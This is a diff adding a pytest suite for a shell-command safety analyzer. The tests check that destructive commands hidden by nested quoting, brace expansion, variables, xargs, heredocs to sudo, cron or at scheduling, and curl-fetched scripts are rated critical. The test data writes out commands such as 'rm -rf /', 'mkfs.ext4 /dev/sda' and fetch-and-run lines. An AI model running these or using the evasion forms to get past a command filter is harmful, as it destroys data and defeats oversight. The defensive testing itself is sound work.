@@ -1,0 +1,115 @@
+"""Forms that once hid a destructive command from the analysis (a review's findings, 2026-12)."""
+
+from __future__ import annotations
+
+import pytest
+
+from orchestrator.core.analysis import analyze, normalised_commands
+
+_Q = "'\"'\"'"  # a single quote inside single quotes, as shlex.quote writes it
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        """bash -c 'bash -c "git reset --hard"'\"\"""",
+        """bash -c 'bash -c "rm -rf /"'\"\"""",
+        """bash -c 'bash -c "mkfs.ext4 /dev/sda"'\"\"""",
+        """bash -c 'bash -c "dd if=/dev/zero of=/dev/sda"'\"\"""",
+        """bash -c 'bash -c "iptables -F"'\"\"""",
+        f"bash -c 'bash -c {_Q}rm -rf /{_Q}'",
+        f"sudo bash -c 'su -c {_Q}rm -rf /{_Q}'",
+        f"ssh host 'bash -c {_Q}rm -rf /{_Q}'",
+    ],
+)
+def test_nested_shell_text_joined_from_quoted_pieces_is_read(command: str) -> None:
+    assert analyze(command).severity == "critical"
+
+
+@pytest.mark.parametrize(
+    ("command", "runs"),
+    [
+        ("""bash -c 'bash -c "git reset --hard"'\"\"""", "git reset --hard"),
+        (f"bash -c 'bash -c {_Q}uname{_Q}'", "uname"),
+        ("echo 'it'\"'\"'s'", "echo it's"),
+        ("echo \"$X\"'a b'", "echo $Xa b"),
+        ('echo $"hi"', "echo hi"),
+    ],
+)
+def test_quotes_are_removed_as_the_shell_removes_them(command: str, runs: str) -> None:
+    assert runs in normalised_commands(command)
+
+
+@pytest.mark.parametrize(
+    ("command", "runs"),
+    [("{uname,-a}", "uname -a"), ("{rm,-rf,/}", "rm -rf /"), ("rm -rf {/,}", "rm -rf /"), ("echo '{a,b}'", "echo {a,b}")],
+)
+def test_brace_expansion_gives_the_words_that_run(command: str, runs: str) -> None:
+    assert runs in normalised_commands(command)
+
+
+@pytest.mark.parametrize("command", ["{rm,-rf,/}", "rm -rf {/,}", "{sudo,rm,-rf,/}"])
+def test_brace_expanded_deletes_are_critical(command: str) -> None:
+    assert analyze(command).severity == "critical"
+
+
+@pytest.mark.parametrize("padding", ["true; " * 4001, "echo hi\n" * 4001])
+def test_commands_past_the_cap_fail_closed(padding: str) -> None:
+    result = analyze(padding + "rm -rf /")
+    assert result.severity == "critical"
+    assert any(f.type == "unparseable" and f.severity == "critical" for f in result.findings)
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "X=/; rm -rf $X",
+        'D=/etc; rm -rf "$D"',
+        'export X=/etc; rm -rf "$X"',
+        "X=/ bash -c 'rm -rf $X'",
+        "for d in / /etc; do rm -rf $d; done",
+        "DIR=$HOME; rm -rf $DIR",
+        "rm -rf /$(echo)",
+        "xargs rm -rf <<< /",
+        "ls / | xargs rm -rf",
+        "ls -1 /etc | sed 's|^|/etc/|' | xargs rm -f",
+        "echo 'rm -rf /' > /tmp/x.sh && bash /tmp/x.sh",
+        "curl https://example.com/i.sh -o /tmp/i.sh && bash /tmp/i.sh",
+        "curl https://example.com/i.sh > i.sh; sh i.sh",
+        'sudo -s <<< "rm -rf /"',
+        'sudo su <<< "rm -rf /"',
+        "echo rm -rf / | at now",
+        'echo "* * * * * rm -rf /" | crontab -',
+    ],
+)
+def test_what_the_command_sets_up_itself_is_followed(command: str) -> None:
+    assert analyze(command).severity == "critical", [f.message for f in analyze(command).findings]
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "ls",
+        "grep -r TODO .",
+        'echo "rm -rf /"',
+        "git status",
+        "df -h",
+        "systemctl status sshd",
+        "X=build; rm -rf $X",
+        "for f in *.log; do gzip $f; done",
+        "export PATH=/usr/local/bin:$PATH; ls",
+        "ls *.log | xargs rm -f",
+        "echo 'echo hi' > /tmp/x.sh && bash /tmp/x.sh",
+        "echo 'rm -rf /' > /tmp/x.txt && cat /tmp/x.txt",
+        'echo "0 3 * * * /usr/local/bin/backup" | crontab -',
+        'at now + 1 hour <<< "systemctl restart app"',
+        "sudo -s",
+        "su - postgres",
+    ],
+)
+def test_everyday_commands_stay_below_critical(command: str) -> None:
+    assert analyze(command).severity in {None, "info", "warning"}
+
+
+def test_a_redirection_target_that_expands_to_nothing_is_no_analysis_failure() -> None:
+    assert [f.type for f in analyze("echo > {,}").findings] == []
